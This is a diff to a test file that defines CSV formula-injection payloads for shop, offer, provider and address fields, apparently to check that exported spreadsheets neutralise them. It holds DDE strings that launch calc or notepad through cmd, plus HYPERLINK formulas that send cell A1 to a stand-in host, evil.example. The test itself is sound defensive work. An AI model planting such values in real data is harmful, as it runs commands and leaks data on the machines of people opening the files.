@@ -6,9 +6,10 @@ import { publishedOffer } from '../testing/offer-fixtures';
 import { dataOf, member, startTestApp, TestApp } from '../testing/test-app';
 
 const PAYLOADS = {
-  shop: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  // No web address: names refuse them (markupOrLink); the formula is what this test is about.
+  shop: '=HYPERLINK("evil.example/?"&A1,"Click")',
   trading: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  provider: '+HYPERLINK("http://evil.example","Fornitore")',
+  provider: '+HYPERLINK("evil.example","Fornitore")',
   offer: '-2+3+cmd|\' /C calc\'!A0',
   address: '=2*3+cmd|\' /C notepad\'!A0',
   // Tabs and carriage returns at the start are trimmed from inputs; the CSV unit test covers them.
